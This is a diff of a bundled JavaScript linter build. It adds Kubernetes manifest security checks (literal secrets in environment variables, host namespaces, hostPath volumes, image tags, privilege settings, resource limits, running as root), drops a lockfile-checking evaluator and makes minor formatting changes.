+function eachContainer(workspace, visit, pods = podSpecs(workspace)) {
+    for (const pod of pods)
+        for (const c of containersOf(pod))
+            visit(c);
+}
+/** `securityContext.<key>` of a container, when set. */
+function containerSetting(c, key) {
+    return childAt(c.pod.object, c.node, 'securityContext', key);
+}
+/** `securityContext.<key>` of a pod spec, when set. */
+function podSetting(pod, key) {
+    return childAt(pod.object, pod.node, 'securityContext', key);
+}
+/**
+ * Where to ask for a setting that is missing from a container: its `securityContext` key when it has
+ * one (the line to add it under), else the container itself.
+ */
+function missingSettingAt(c) {
+    const sc = childAt(c.pod.object, c.node, 'securityContext');
+    return sc && k8s_isMap(sc.value) ? { node: sc, anchor: 'key' } : { node: c.node, anchor: 'start' };
+}
+/** True when a pod declares that it runs on Windows nodes, where Linux user ids do not apply. */
+function isWindowsPod(pod) {
+    const os = childAt(pod.object, pod.node, 'os', 'name');
+    return os?.value === 'windows' || podSetting(pod, 'windowsOptions') !== undefined;
+}
+/** A finding at a manifest node; `keyParts` identify the occurrence independently of its line. */
+function findingAt(c, node, message, keyParts, anchor = 'value') {
+    const location = anchor === 'start'
+        ? { path: c.object.path, startLine: node.span.start.line, startColumn: node.span.start.column }
+        : locationFromSpan(c.object.path, node.span, anchor === 'key');
+    return { message, location, key: occurrenceKey(c.object, ...keyParts) };
+}
+/** {@link findingAt} for a container-level node. */
+function containerFinding(c, node, message, check, anchor = 'value') {
+    return findingAt(c.pod, node, message, [c.group, c.name, check], anchor);
+}
+/** The empty options schema of an evaluator that takes none. */
+const shared_NO_OPTIONS = { type: 'object', additionalProperties: false, properties: {} };
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/k8s/env-secret-literal.js
+
+
+
+/** Name parts that mark a secret on their own. */
+const SECRET_WORDS = new Set([
+    'PASSWORD',
+    'PASSWD',
+    'PWD',
+    'PASSPHRASE',
+    'SECRET',
+    'TOKEN',
+    'CREDENTIAL',
+    'CREDENTIALS',
+    'APIKEY',
+    'PRIVATEKEY',
+    'SECRETKEY',
+    'ACCESSKEY',
+]);
+/** `KEY` is a secret only after one of these (`API_KEY`), not in `CACHE_KEY` or `PUBLIC_KEY`. */
+const KEY_QUALIFIERS = new Set([
+    'API',
+    'ACCESS',
+    'SECRET',
+    'PRIVATE',
+    'SIGNING',
+    'ENCRYPTION',
+    'MASTER',
+    'LICENSE',
+    'SERVICE',
+    'APP',
+    'CLIENT',
+    'AUTH',
+    'JWT',
+    'HMAC',
+    'SESSION',
+    'COOKIE',
+    'ACCOUNT',
+    'STORAGE',
+    'SHARED',
+    'WEBHOOK',
+]);
+/** A last part that makes the variable about a secret rather than the secret (`DB_PASSWORD_FILE`). */
+const NOT_THE_SECRET = new Set([
+    'FILE',
+    'PATH',
+    'DIR',
+    'NAME',
+    'REF',
+    'URL',
+    'URI',
+    'ENDPOINT',
+    'HOST',
+    'PORT',
+    'ID',
+    'USER',
+    'USERNAME',
+    'TTL',
+    'EXPIRY',
+    'EXPIRES',
+    'EXPIRATION',
+    'TIMEOUT',
+    'LENGTH',
+    'SIZE',
+    'HEADER',
+    'ALGORITHM',
+    'TYPE',
+    'VERSION',
+    'ENABLED',
+    'REQUIRED',
+    'POLICY',
+    'ISSUER',
+    'AUDIENCE',
+    'PREFIX',
+    'FORMAT',
+    'KIND',
+]);
+/** Whether an environment variable's name says it holds a secret. */
+function isSecretName(name) {
+    const parts = name
+        .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
+        .toUpperCase()
+        .split(/[^A-Z0-9]+/)
+        .filter(Boolean);
+    const last = parts[parts.length - 1];
+    if (!last || NOT_THE_SECRET.has(last) || parts.includes('PUBLIC'))
+        return false;
+    if (parts.some((p) => SECRET_WORDS.has(p)))
+        return true;
+    return last === 'KEY' && (parts.length === 1 || KEY_QUALIFIERS.has(parts[parts.length - 2]));
+}
+/** Whether a literal value is a stand-in rather than a credential: empty, a reference, a placeholder. */
+function isPlaceholderValue(value) {
+    const v = value.trim();
+    return (v === '' ||
+        /^(true|false)$/i.test(v) ||
+        /^\$\([A-Za-z_][A-Za-z0-9_]*\)$/.test(v) || // Kubernetes' own $(VAR) reference
+        /^\$\{[^}]*\}$/.test(v) ||
+        /^\{\{.*\}\}$/s.test(v) ||
+        /^<[^<>]*>$/.test(v) ||
+        /^[x*.]+$/i.test(v));
+}
+/**
+ * Flags environment variables whose name says they hold a secret (password, token, API key, ...) and
+ * whose `value` is a literal in the manifest, rather than `valueFrom.secretKeyRef`. The value is never
+ * repeated in the finding: only its length.
+ */
+const k8sEnvSecretLiteral = defineEvaluator({
+    kind: 'k8s.env-secret-literal',
+    summary: 'Kubernetes container environment variables named like secrets (password, token, API key) with a literal value.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            ignore: {
+                type: 'array',
+                items: { type: 'string', minLength: 1 },
+                default: [],
+                description: 'Variable names (exact) that are not secrets although their name says so.',
+            },
+        },
+    },
+    evaluate({ options, workspace }) {
+        const findings = [];
+        const ignored = new Set(options.ignore);
+        eachContainer(workspace, (c) => {
+            const env = c.node.value.env;
+            if (!Array.isArray(env))
+                return;
+            env.forEach((entry, i) => {
+                if (!k8s_isMap(entry) || typeof entry.name !== 'string' || typeof entry.value !== 'string')
+                    return;
+                if (ignored.has(entry.name) || !isSecretName(entry.name) || isPlaceholderValue(entry.value))
+                    return;
+                const node = childAt(c.pod.object, c.node, 'env', i, 'value');
+                if (!node)
+                    return;
+                findings.push(containerFinding(c, node, `Environment variable ${entry.name} of the ${describeContainer(c)} is set to a literal value ` +
+                    `(${entry.value.length} characters) in the manifest, so everyone who can read the repository ` +
+                    'or the object has it. Reference a Secret with valueFrom.secretKeyRef.', `env:${entry.name}`, 
+                // At `value:`: a block scalar's own span starts on the line below it.
+                'key'));
+            });
+        });
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/k8s/host-namespaces.js
+
+
+
+const FIELDS = {
+    network: {
+        field: 'hostNetwork',
+        effect: "it uses the node's network stack, bypasses network policies and can reach services bound to localhost",
+    },
+    pid: {
+        field: 'hostPID',
+        effect: 'it sees every process on the node and, as root, can inspect or signal them',
+    },
+    ipc: {
+        field: 'hostIPC',
+        effect: "it shares the node's IPC namespace and can read other processes' shared memory",
+    },
+};
+/**
+ * Flags pod specs that share a host namespace (`hostNetwork`, `hostPID`, `hostIPC: true`), which
+ * removes the isolation between the pod and the node.
+ */
+const k8sHostNamespaces = defineEvaluator({
+    kind: 'k8s.host-namespaces',
+    summary: 'Kubernetes pod specs that set hostNetwork, hostPID or hostIPC to true.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            namespaces: {
+                type: 'array',
+                items: { enum: ['network', 'pid', 'ipc'] },
+                uniqueItems: true,
+                default: ['network', 'pid', 'ipc'],
+                description: 'Host namespaces a pod must not share.',
+            },
+        },
+    },
+    evaluate({ options, workspace }) {
+        const findings = [];
+        for (const pod of podSpecs(workspace)) {
+            for (const ns of options.namespaces) {
+                const { field, effect } = FIELDS[ns];
+                const node = childAt(pod.object, pod.node, field);
+                if (node?.value !== true)
+                    continue;
+                findings.push(findingAt(pod, node, `${describeObject(pod.object)} sets ${field}: true: ${effect}.`, [field]));
+            }
+        }
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/k8s/host-path.js
+
+
+
+/**
+ * Flags `hostPath` volumes. A hostPath mount exposes the node's file system to the pod: the container
+ * runtime socket, kubelet credentials or `/` itself are a step away from controlling the node.
+ */
+const k8sHostPath = defineEvaluator({
+    kind: 'k8s.host-path',
+    summary: 'Kubernetes pod specs that mount a hostPath volume.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            allow: {
+                type: 'array',
+                items: { type: 'string', minLength: 1 },
+                default: [],
+                description: 'Host paths that may be mounted (exact match).',
+            },
+        },
+    },
+    evaluate({ options, workspace }) {
+        const findings = [];
+        const allowed = new Set(options.allow);
+        for (const pod of podSpecs(workspace)) {
+            const volumes = pod.node.value.volumes;
+            if (!Array.isArray(volumes))
+                continue;
+            volumes.forEach((volume, i) => {
+                if (!k8s_isMap(volume) || !k8s_isMap(volume.hostPath))
+                    return;
+                const hostPath = typeof volume.hostPath.path === 'string' ? volume.hostPath.path : '';
+                if (allowed.has(hostPath))
+                    return;
+                const node = childAt(pod.object, pod.node, 'volumes', i, 'hostPath');
+                if (!node)
+                    return;
+                const name = typeof volume.name === 'string' ? ` "${volume.name}"` : '';
+                const where = hostPath ? ` of the node's ${JSON.stringify(hostPath)}` : '';
+                findings.push(findingAt(pod, node, `${describeObject(pod.object)} mounts volume${name} as a hostPath${where}: the pod can read or ` +
+                    'change files of the node it runs on.', ['hostPath', hostPath], 'key'));
+            });
+        }
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/k8s/image-tag.js
+
+
+
+
+/**
+ * Flags container images with no tag or the `latest` tag and no digest: the version that runs
+ * changes whenever the tag is re-pointed and a pod restarts, without a change to the manifest.
+ * Images filled in by a templating step (`${TAG}`, `{{ .Values.tag }}`) are not judged.
+ */
+const k8sImageTag = defineEvaluator({
+    kind: 'k8s.image-tag',
+    summary: 'Kubernetes container images with no tag or the "latest" tag, and no digest.',
+    schema: shared_NO_OPTIONS,
+    evaluate({ workspace }) {
+        const findings = [];
+        eachContainer(workspace, (c) => {
+            const image = childAt(c.pod.object, c.node, 'image');
+            if (typeof image?.value !== 'string' || /\$|\{\{/.test(image.value))
+                return;
+            const ref = parseImageRef(image.value);
+            if (!ref || ref.digest !== undefined)
+                return;
+            if (ref.tag !== undefined && ref.tag !== 'latest')
+                return;
+            const problem = ref.tag === 'latest' ? 'uses the "latest" tag' : 'has no tag, which means "latest"';
+            findings.push(containerFinding(c, image, `Image "${ref.raw}" of the ${describeContainer(c)} ${problem}: what runs changes whenever the tag is ` +
+                're-pointed and a pod restarts. Pin a version tag or a @sha256 digest.', `image:${ref.raw}`));
+        });
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/k8s/privilege-escalation.js
+
+
+
+/**
+ * Flags containers whose `securityContext.allowPrivilegeEscalation` is not `false`. Kubernetes
+ * defaults it to true, which lets a process gain privileges through setuid binaries or file
+ * capabilities; `false` sets the kernel's no_new_privs flag. The setting only exists per container.
+ */
+const k8sPrivilegeEscalation = defineEvaluator({
+    kind: 'k8s.privilege-escalation',
+    summary: 'Kubernetes containers that do not set securityContext.allowPrivilegeEscalation: false.',
+    schema: shared_NO_OPTIONS,
+    evaluate({ workspace }) {
+        const findings = [];
+        eachContainer(workspace, (c) => {
+            const setting = containerSetting(c, 'allowPrivilegeEscalation');
+            if (setting?.value === false)
+                return;
+            const what = describeContainer(c);
+            if (setting) {
+                findings.push(containerFinding(c, setting, `The ${what} sets allowPrivilegeEscalation to ${JSON.stringify(setting.value)}: its processes can ` +
+                    'gain privileges through setuid binaries. Set it to false.', 'allowPrivilegeEscalation'));
+                return;
+            }
+            const at = missingSettingAt(c);
+            findings.push(containerFinding(c, at.node, `The ${what} does not set allowPrivilegeEscalation: false, and Kubernetes defaults it to true, ` +
+                'so its processes can gain privileges through setuid binaries.', 'allowPrivilegeEscalation', at.anchor));
+        });
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/k8s/privileged.js
+
+
+
+/**
+ * Flags containers with `securityContext.privileged: true`. A privileged container gets every Linux
+ * capability and the host's devices, and runs unconfined by seccomp and AppArmor: any code execution
+ * in it is root on the node.
+ */
+const k8sPrivileged = defineEvaluator({
+    kind: 'k8s.privileged',
+    summary: 'Kubernetes containers (including init and ephemeral containers) that run privileged.',
+    schema: shared_NO_OPTIONS,
+    evaluate({ workspace }) {
+        const findings = [];
+        eachContainer(workspace, (c) => {
+            const privileged = containerSetting(c, 'privileged');
+            if (privileged?.value !== true)
+                return;
+            findings.push(containerFinding(c, privileged, `The ${describeContainer(c)} runs privileged: it gets every capability and the host's devices, ` +
+                'so whoever runs code in it controls the node.', 'privileged'));
+        });
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/k8s/resource-limits.js
+
+
+
+/**
+ * Flags containers and init containers without `resources.limits` for the configured resources
+ * (CPU and memory by default). An unlimited container can starve its neighbours on the node.
+ * Ephemeral containers are skipped: Kubernetes does not allow them resources.
+ */
+const k8sResourceLimits = defineEvaluator({
+    kind: 'k8s.resource-limits',
+    summary: 'Kubernetes containers without resources.limits for the configured resources (CPU and memory).',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            resources: {
+                type: 'array',
+                items: { type: 'string', minLength: 1 },
+                minItems: 1,
+                uniqueItems: true,
+                default: ['cpu', 'memory'],
+                description: 'Resource names every container must limit, e.g. cpu, memory, ephemeral-storage.',
+            },
+        },
+    },
+    evaluate({ options, workspace }) {
+        const findings = [];
+        for (const pod of podSpecs(workspace)) {
+            for (const c of containersOf(pod, ['initContainers', 'containers'])) {
+                const limits = childAt(pod.object, c.node, 'resources', 'limits');
+                const set = limits && k8s_isMap(limits.value) ? limits.value : {};
+                const missing = options.resources.filter((r) => set[r] === undefined || set[r] === null);
+                if (missing.length === 0)
+                    continue;
+                const resources = childAt(pod.object, c.node, 'resources');
+                // Point where the limit is to be written: the limits, else resources, else the container.
+                const [node, anchor] = limits && k8s_isMap(limits.value)
+                    ? [limits, 'key']
+                    : resources && k8s_isMap(resources.value)
+                        ? [resources, 'key']
+                        : [c.node, 'start'];
+                findings.push(containerFinding(c, node, `The ${describeContainer(c)} has no ${missing.join(' or ')} limit (resources.limits), so it can ` +
+                    "use up the node's capacity and starve the pods beside it.", `limits:${missing.join(',')}`, anchor));
+            }
+        }
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/k8s/run-as-root.js
+
+
+
+/**
+ * Flags containers that may run as root: `runAsUser: 0`, or neither `runAsNonRoot: true` nor a
+ * non-zero `runAsUser` at container or pod level (the container's setting wins). Without them the
+ * image's USER decides, and most images run as root. Windows pods are skipped: they use
+ * `windowsOptions.runAsUserName`, not Linux user ids.
+ */
+const k8sRunAsRoot = defineEvaluator({
+    kind: 'k8s.run-as-root',
+    summary: 'Kubernetes containers that run as UID 0, or set neither runAsNonRoot: true nor a non-zero runAsUser ' +
+        '(container or pod securityContext).',
+    schema: shared_NO_OPTIONS,
+    evaluate({ workspace }) {
+        const findings = [];
+        for (const pod of podSpecs(workspace)) {
+            if (isWindowsPod(pod))
+                continue;
+            // A pod-level value shared by several containers is one mistake, reported once.
+            const reported = new Set();
+            const once = (node, make) => {
+                if (reported.has(node.pointer))
+                    return;
+                reported.add(node.pointer);
+                findings.push(make());
+            };
+            for (const c of containersOf(pod)) {
+                const user = containerSetting(c, 'runAsUser') ?? podSetting(pod, 'runAsUser');
+                // A pod-level setting is about every container that does not override it.
+                const what = (node) => node.pointer.startsWith(`${c.node.pointer}/`)
+                    ? `The ${describeContainer(c)}`
+                    : `${describeObject(pod.object)} (pod securityContext, inherited by its containers)`;
+                if (user?.value === 0) {
+                    once(user, () => findingAt(pod, user, `${what(user)} runs as root (runAsUser: 0). Use a non-zero user id and set runAsNonRoot: true.`, [user.pointer, 'runAsUser']));
+                    continue;
+                }
+                if (typeof user?.value === 'number' && user.value > 0)
+                    continue;
+                const nonRoot = containerSetting(c, 'runAsNonRoot') ?? podSetting(pod, 'runAsNonRoot');
+                if (nonRoot?.value === true)
+                    continue;
+                if (nonRoot) {
+                    once(nonRoot, () => findingAt(pod, nonRoot, `${what(nonRoot)} sets runAsNonRoot to ${JSON.stringify(nonRoot.value)} and no non-zero runAsUser, ` +
+                        "so it runs as root whenever the image's user is root.", [nonRoot.pointer, 'runAsNonRoot']));
+                    continue;
+                }
+                const at = missingSettingAt(c);
+                findings.push(containerFinding(c, at.node, `The ${describeContainer(c)} sets neither runAsNonRoot: true nor a non-zero runAsUser (in its own or the pod's ` +
+                    "securityContext), so it runs as root whenever the image's user is root.", 'runAsNonRoot', at.anchor));
+            }
+        }
+        return findings;
+    },
+});
+
 ;// CONCATENATED MODULE: ./lib/core/evaluators/repo/magic.js
 /**
  * Recognises executable formats from a file's first bytes (the workspace's 8,000-byte binary sniff).
@@ -24449,7 +36671,10 @@ function pe(head, file, size) {
         return dos;
     if (lfanew + 4 > head.length) {
         // The PE header lies past the sniffed bytes; a real image keeps it within the first few KiB.
-        return { format: 'pe', description: 'Windows executable (MZ header; PE header beyond the first 8,000 bytes)' };
+        return {
+            format: 'pe',
+            description: 'Windows executable (MZ header; PE header beyond the first 8,000 bytes)',
+        };
     }
     if (head.readUInt32BE(lfanew) !== 0x50450000)
         return dos;
@@ -24494,7 +36719,10 @@ function cafebabe(head, magic) {
         return undefined;
     const next = head.readUInt32BE(4);
     if (next >= 1 && next <= 30) {
-        return { format: 'mach-o', description: `universal (fat) Mach-O binary with ${next} architecture${next === 1 ? '' : 's'}` };
+        return {
+            format: 'mach-o',
+            description: `universal (fat) Mach-O binary with ${next} architecture${next === 1 ? '' : 's'}`,
+        };
     }
     if (magic !== 0xcafebabe)
         return undefined;
@@ -24511,7 +36739,9 @@ function javaArchive(head, file) {
         return undefined;
     const nameLength = head.readUInt16LE(26);
     const name = head.subarray(30, Math.min(head.length, 30 + nameLength)).toString('latin1');
-    return name.startsWith('META-INF/') ? { format: 'java-archive', description: 'Java archive (JAR)' } : undefined;
+    return name.startsWith('META-INF/')
+        ? { format: 'java-archive', description: 'Java archive (JAR)' }
+        : undefined;
 }
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/repo/binary-executables.js
@@ -24568,273 +36798,6 @@ const binaryExecutables = defineEvaluator({
     },
 });
 
-;// CONCATENATED MODULE: external "node:path/posix"
-const posix_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path/posix");
-;// CONCATENATED MODULE: ./lib/core/evaluators/repo/manifests.js
-/**
- * Small, dependency-free readers of package manifests: just enough to tell whether a manifest
- * declares dependencies (and so needs a lockfile). TOML and go.mod are inspected by table headers
- * and directives rather than parsed in full; every pattern here is anchored and linear.
- */
-/** A JSON object from the workspace (cached), or undefined when absent, not an object or unparsable. */
-function readJson(ws, file) {
-    if (!ws.has(file))
-        return undefined;
-    return ws.memo('deps.json', file, () => {
-        const text = ws.text(file);
-        if (text === undefined)
-            return undefined;
-        let value;
-        try {
-            value = JSON.parse(text);
-        }
-        catch {
-            // The YAML parser accepts JSON and, unlike JSON.parse, reports where it breaks: the workspace
-            // records that located problem for core.input-problems.
-            const parsed = ws.yaml(file);
-            value = parsed?.ok ? parsed.documents[0]?.value : undefined;
-        }
-        return isObject(value) ? value : undefined;
-    });
-}
-function isObject(value) {
-    return typeof value === 'object' && value !== null && !Array.isArray(value);
-}
-const NPM_DEPENDENCY_FIELDS = ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies'];
-/** A package.json needs a lockfile when it declares dependencies of any kind. */
-function packageJsonNeedsLock(pkg) {
-    if (!pkg)
-        return false;
-    return NPM_DEPENDENCY_FIELDS.some((field) => {
-        const deps = pkg[field];
-        return isObject(deps) && Object.keys(deps).length > 0;
-    });
-}
-/**
- * A composer.json needs composer.lock when it requires a package; platform requirements (`php`,
- * `ext-*`, `lib-*`, `composer-*`) are checked, not installed, and have no `vendor/` prefix.
- */
-function composerNeedsLock(manifest) {
-    if (!manifest)
-        return false;
-    return ['require', 'require-dev'].some((field) => {
-        const deps = manifest[field];
-        return isObject(deps) && Object.keys(deps).some((name) => name.includes('/'));
-    });
-}
-/**
- * The Python tool whose lockfile a pyproject.toml implies: Poetry (`[tool.poetry...]`), uv
- * (`[tool.uv...]`) or PDM as a dependency manager (`[tool.pdm]`, `[tool.pdm.dev-dependencies]`; the
- * pdm-backend build tables alone do not imply a lock). Plain `[project]` metadata implies none:
- * libraries built with setuptools or hatch conventionally ship without one.
- */
-function pyprojectTool(text) {
-    const headers = tomlTableHeaders(text);
-    if (headers.some((h) => h === 'tool.poetry' || h.startsWith('tool.poetry.')))
-        return 'poetry';
-    if (headers.some((h) => h === 'tool.uv' || h.startsWith('tool.uv.')))
-        return 'uv';
-    if (headers.some((h) => h === 'tool.pdm' || h === 'tool.pdm.dev-dependencies' || h === 'tool.pdm.resolution')) {
-        return 'pdm';
-    }
-    return undefined;
-}
-/**
- * A Cargo.toml needs Cargo.lock when it declares dependencies: `[dependencies]`, `[dev-dependencies]`,
- * `[build-dependencies]`, their `target.<cfg>.` forms, `[dependencies.<name>]` tables and
- * `[workspace.dependencies]`. A virtual workspace root without shared dependencies needs none itself;
- * its members point at the lockfile in it.
- */
-function cargoNeedsLock(text) {
-    return tomlTableHeaders(text).some((h) => {
-        const parts = h.split('.');
-        // `target.'cfg(unix)'.dependencies` may contain dots inside the quoted cfg; only the tail matters.
-        return parts.some((p, i) => /^(?:dev-|build-)?dependencies$/.test(p) && (i === 0 || isDepsPrefix(parts, i)));
-    });
-}
-function isDepsPrefix(parts, i) {
-    return parts[0] === 'workspace' ? i === 1 : parts[0] === 'target';
-}
-/** A go.mod needs go.sum when it has a `require` directive (a module using only the standard library has none). */
-function goModNeedsSum(text) {
-    return /^[ \t]*require(?:[ \t(]|$)/m.test(text);
-}
-/** Table and array-of-table header names of a TOML document (`[a.b]`, `[[a.b]]`), whitespace removed. */
-function tomlTableHeaders(text) {
-    const out = [];
-    for (const m of text.matchAll(/^[ \t]*\[\[?([^\]\n#]{1,500})\]\]?[ \t]*(?:#[^\n]*)?\r?$/gm)) {
-        out.push(m[1].replace(/[ \t]+/g, ''));
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./lib/core/evaluators/repo/deps-lockfile.js
-
-
-
-
-
-
-const ECOSYSTEMS = ['npm', 'python', 'ruby', 'rust', 'php', 'go'];
-const NPM_LOCKS = ['package-lock.json', 'npm-shrinkwrap.json', 'yarn.lock', 'pnpm-lock.yaml', 'bun.lock', 'bun.lockb'];
-const PY_LOCKS = ['poetry.lock', 'uv.lock', 'pdm.lock'];
-/**
- * `deps.lockfile`: every package manifest that declares dependencies has a lockfile beside it, or in
- * the ancestor directory that is its workspace root (npm/yarn/bun `workspaces`, pnpm-workspace.yaml,
- * a Cargo `[workspace]`, a uv workspace). Without a lockfile, each install resolves version ranges
- * anew, so builds are neither reproducible nor reviewable.
- */
-const depsLockfile = defineEvaluator({
-    kind: 'deps.lockfile',
-    summary: 'Package manifests with dependencies have a committed lockfile (npm, Python, Ruby, Rust, PHP, Go).',
-    schema: {
-        type: 'object',
-        additionalProperties: false,
-        properties: {
-            ecosystems: {
-                type: 'array',
-                uniqueItems: true,
-                items: { enum: [...ECOSYSTEMS] },
-                default: [...ECOSYSTEMS],
-                description: 'Ecosystems to check.',
-            },
-            exclude: globList('Globs of manifests to ignore: vendored code, installed packages and test fixtures. Setting it ' +
-                'replaces the defaults.', {
-                default: [
-                    '**/node_modules/**',
-                    '**/vendor/**',
-                    '**/bower_components/**',
-                    '**/fixtures/**',
-                    '**/__fixtures__/**',
-                    '**/testdata/**',
-                ],
-            }),
-        },
-    },
-    evaluate({ options, workspace }) {
-        const excluded = options.exclude.length > 0 ? workspace.matcher(options.exclude) : () => false;
-        const wanted = new Set(options.ecosystems);
-        const findings = [];
-        for (const file of workspace.files) {
-            if (excluded(file))
-                continue;
-            const name = posix_namespaceObject.basename(file);
-            const dir = posix_namespaceObject.dirname(file) === '.' ? '' : posix_namespaceObject.dirname(file);
-            const req = requirementFor(workspace, name, file, dir, wanted);
-            if (!req)
-                continue;
-            if (req.dirs.some((d) => req.locks.some((lock) => workspace.has(join(d, lock)))))
-                continue;
-            const roots = req.dirs.slice(1).map((d) => d || 'the repository root');
-            const where = roots.length > 0 ? ` beside it or in its workspace root (${roots.join(', ')})` : ' beside it';
-            findings.push({
-                message: `${file} declares dependencies but no lockfile is committed${where}: expected ` +
-                    `${orList(req.locks.map((l) => `\`${l}\``))}.`,
-                location: fileLocation(file),
-                key: name,
-            });
-        }
-        return findings;
-    },
-});
-function requirementFor(ws, name, file, dir, wanted) {
-    switch (name) {
-        case 'package.json': {
-            if (!wanted.has('npm'))
-                return undefined;
-            const pkg = readJson(ws, file);
-            if (!packageJsonNeedsLock(pkg))
-                return undefined;
-            return { locks: preferredFirst(NPM_LOCKS, pkg), dirs: [dir, ...npmWorkspaceRoots(ws, dir)] };
-        }
-        case 'Pipfile':
-            return wanted.has('python') ? { locks: ['Pipfile.lock'], dirs: [dir] } : undefined;
-        case 'pyproject.toml': {
-            if (!wanted.has('python'))
-                return undefined;
-            const tool = pyprojectTool(ws.text(file) ?? '');
-            if (!tool)
-                return undefined;
-            const primary = `${tool}.lock`;
-            return { locks: [primary, ...PY_LOCKS.filter((l) => l !== primary)], dirs: [dir, ...uvWorkspaceRoots(ws, dir)] };
-        }
-        case 'Gemfile':
-            return wanted.has('ruby') ? { locks: ['Gemfile.lock'], dirs: [dir] } : undefined;
-        case 'gems.rb':
-            return wanted.has('ruby') ? { locks: ['gems.locked'], dirs: [dir] } : undefined;
-        case 'Cargo.toml': {
-            if (!wanted.has('rust') || !cargoNeedsLock(ws.text(file) ?? ''))
-                return undefined;
-            return { locks: ['Cargo.lock'], dirs: [dir, ...cargoWorkspaceRoots(ws, dir)] };
-        }
-        case 'composer.json':
-            return wanted.has('php') && composerNeedsLock(readJson(ws, file)) ? { locks: ['composer.lock'], dirs: [dir] } : undefined;
-        case 'go.mod':
-            return wanted.has('go') && goModNeedsSum(ws.text(file) ?? '') ? { locks: ['go.sum'], dirs: [dir] } : undefined;
-        default:
-            return undefined;
-    }
-}
-/** Ancestors of `dir`, nearest first ("" is the repository root). */
-function ancestors(dir) {
-    const out = [];
-    let current = dir;
-    while (current !== '') {
-        current = posix_namespaceObject.dirname(current) === '.' ? '' : posix_namespaceObject.dirname(current);
-        out.push(current);
-    }
-    return out;
-}
-function join(dir, name) {
-    return dir ? `${dir}/${name}` : name;
-}
-/** Ancestors whose workspace globs (package.json `workspaces`, pnpm-workspace.yaml) include `dir`. */
-function npmWorkspaceRoots(ws, dir) {
-    return ancestors(dir).filter((root) => {
-        const rel = root ? dir.slice(root.length + 1) : dir;
-        const globs = [];
-        const pkg = readJson(ws, join(root, 'package.json'));
-        const declared = pkg?.workspaces;
-        if (Array.isArray(declared))
-            globs.push(...declared.filter((g) => typeof g === 'string'));
-        else if (declared && typeof declared === 'object') {
-            const packages = declared.packages;
-            if (Array.isArray(packages))
-                globs.push(...packages.filter((g) => typeof g === 'string'));
-        }
-        const pnpm = ws.has(join(root, 'pnpm-workspace.yaml')) ? ws.yaml(join(root, 'pnpm-workspace.yaml')) : undefined;
-        const pnpmPackages = pnpm?.ok ? pnpm.documents[0]?.value?.packages : undefined;
-        if (Array.isArray(pnpmPackages))
-            globs.push(...pnpmPackages.filter((g) => typeof g === 'string'));
-        return globs.length > 0 && matchesWorkspaceGlobs(rel, globs);
-    });
-}
-/** Workspace globs with `!` negations, as npm, yarn and pnpm read them. */
-function matchesWorkspaceGlobs(rel, globs) {
-    const clean = (g) => g.replace(/^\.\//, '').replace(/\/+$/, '');
-    const include = globs.filter((g) => !g.startsWith('!')).map(clean);
-    const exclude = globs.filter((g) => g.startsWith('!')).map((g) => clean(g.slice(1)));
-    if (include.length === 0)
-        return false;
-    return picomatch(include, { dot: true })(rel) && !(exclude.length > 0 && picomatch(exclude, { dot: true })(rel));
-}
-/** Cargo walks up to the nearest manifest with a `[workspace]` table, which must list the member. */
-function cargoWorkspaceRoots(ws, dir) {
-    return ancestors(dir).filter((root) => /^[ \t]*\[workspace\][ \t]*(?:#.*)?$/m.test(ws.text(join(root, 'Cargo.toml')) ?? ''));
-}
-/** uv keeps one uv.lock at the root that declares `[tool.uv.workspace]`. */
-function uvWorkspaceRoots(ws, dir) {
-    return ancestors(dir).filter((root) => /^[ \t]*\[tool\.uv\.workspace\][ \t]*(?:#.*)?$/m.test(ws.text(join(root, 'pyproject.toml')) ?? ''));
-}
-/** Puts the lockfile of the declared `packageManager` (e.g. "pnpm@9.1.0") first, for the message. */
-function preferredFirst(locks, pkg) {
-    const manager = typeof pkg?.packageManager === 'string' ? pkg.packageManager.split('@')[0] : undefined;
-    const first = { npm: 'package-lock.json', yarn: 'yarn.lock', pnpm: 'pnpm-lock.yaml', bun: 'bun.lock' }[manager];
-    return first ? [first, ...locks.filter((l) => l !== first)] : [...locks];
-}
-
-// EXTERNAL MODULE: ./node_modules/ignore/index.js
-var ignore = __nccwpck_require__(298);
 ;// CONCATENATED MODULE: ./lib/core/evaluators/repo/gitignore-must-ignore.js
 
 
@@ -24879,7 +36842,7 @@ const gitignoreMustIgnore = defineEvaluator({
         if (!workspace.has(GITIGNORE)) {
             return [
                 {
-                    message: `The repository has no root ${GITIGNORE}, so ${list(options.entries)} can be committed by accident.${why}`,
+                    message: `The repository has no root ${GITIGNORE}, so ${gitignore_must_ignore_list(options.entries)} can be committed by accident.${why}`,
                     location: null,
                     key: 'missing',
                 },
@@ -24889,7 +36852,7 @@ const gitignoreMustIgnore = defineEvaluator({
         if (text === undefined) {
             return [
                 {
-                    message: `${GITIGNORE} cannot be read as a text file (symbolic link, binary or too large), so it does not ignore ${list(options.entries)}.${why}`,
+                    message: `${GITIGNORE} cannot be read as a text file (symbolic link, binary or too large), so it does not ignore ${gitignore_must_ignore_list(options.entries)}.${why}`,
                     location: { path: GITIGNORE, startLine: 1 },
                     key: 'unreadable',
                 },
@@ -24933,313 +36896,1727 @@ function decidingNegation(lines, entry) {
     }
     return undefined;
 }
-function list(entries) {
+function gitignore_must_ignore_list(entries) {
     return entries.map((e) => `\`${e}\``).join(', ');
 }
 
-;// CONCATENATED MODULE: ./lib/core/parsers/workflow.js
